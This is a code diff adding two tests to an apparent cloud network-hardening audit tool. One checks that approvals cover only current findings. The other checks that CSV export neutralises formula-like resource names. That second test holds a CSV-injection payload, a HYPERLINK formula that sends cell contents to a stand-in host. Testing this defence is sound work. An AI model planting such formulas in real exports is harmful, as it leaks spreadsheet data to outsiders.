@@ -312,3 +312,81 @@ def test_hostile_names_and_records_reach_no_terminal(demo, admin, lab):
     finally:
         demo.run('security', 'group', 'set', '--name', lab['name'] + '-b',
                  lab['b'])
+
+
+def test_an_approval_covers_only_what_was_reviewed(demo, admin, lab):
+    """The demo member writes a request for an any-protocol rule whose
+    remote is an address group of 10.20.0.0/16 (no finding yet), then one
+    granted in 2100: the admin's approve refuses each in one line and
+    writes no endorsement; once the member widens the group to the world
+    the audit reports the rule, critical."""
+    import datetime
+
+    from xloudclient import records as rec
+
+    name = lab['name'] + '-steer'
+    ag = demo.json('address', 'group', 'create', name, '--address',
+                   '10.20.0.0/16')['id']
+    group = demo.json('security', 'group', 'create', name)['id']
+    try:
+        rule = demo.json('security', 'group', 'rule', 'create', group,
+                         '--protocol', 'any', '--remote-address-group',
+                         ag)['id']
+        check = 'sg-ingress-any-from-world'
+        now = datetime.datetime.now(datetime.timezone.utc)
+        demo.run('security', 'group', 'set', '--tag', rec.make_decision_tag(
+            check, rule, now.date() + datetime.timedelta(90), now, 'demo',
+            'vpn only'), group)
+        tags_before = admin.json('project', 'show', 'demo')['tags']
+        proc = admin.run('network', 'harden', 'approve', check, rule,
+                         check=False)
+        assert proc.returncode == 1
+        assert proc.stderr.strip().splitlines()[-1].endswith(
+            'reports nothing on security group rule %s now: a request is '
+            'approved for a finding the audit shows, not one that may '
+            'appear later; nothing was changed' % rule)
+        future = datetime.datetime(2100, 1, 1, tzinfo=datetime.timezone.utc)
+        demo.run('address', 'group', 'set', '--address', '0.0.0.0/0', ag)
+        demo.run('security', 'group', 'set', '--tag', rec.make_decision_tag(
+            check, rule, datetime.date(2100, 11, 30), future, 'demo',
+            'forever'), group)
+        proc = admin.run('network', 'harden', 'approve', check, rule,
+                         check=False)
+        assert proc.returncode == 1
+        assert 'in the future' in proc.stderr.strip().splitlines()[-1]
+        assert admin.json('project', 'show', 'demo')['tags'] == tags_before
+        code, rows = _audit(admin, check)
+        assert code == 3
+        assert [(r['Resource ID'], r['Severity']) for r in rows
+                if r['Resource ID'] == rule] == [(rule, 'critical')]
+    finally:
+        demo.run('security', 'group', 'delete', group, check=False)
+        demo.run('address', 'group', 'delete', ag, check=False)
+
+
+def test_a_name_a_spreadsheet_would_run_is_text_in_csv(demo, admin, lab):
+    """A port named as a formula, with port security off: in the admin's
+    `-f csv` its name is a quoted text cell a spreadsheet shows, and
+    `-f json` keeps the name as written."""
+    import csv
+    import io
+
+    name = '=HYPERLINK("http://x.example/?"&A1,"open")'
+    port = demo.json('port', 'create', '--network', lab['net'],
+                     '--disable-port-security', '--no-security-group',
+                     name)['id']
+    try:
+        proc = admin.run('network', 'harden', 'audit', '--all-projects',
+                         '--check', 'port-security-disabled', '-f', 'csv',
+                         check=False)
+        assert proc.returncode == 3, proc.stderr
+        rows = list(csv.DictReader(io.StringIO(proc.stdout)))
+        [row] = [r for r in rows if r['Resource ID'] == port]
+        assert row['Resource Name'] == "'" + name
+        assert not [c for r in rows for c in r.values()
+                    if c and c[0] in '=+@']
+        _, found = _audit(admin, 'port-security-disabled')
+        assert [r['Resource Name'] for r in found
+                if r['Resource ID'] == port] == [name]
+    finally:
+        demo.run('port', 'delete', port, check=False)
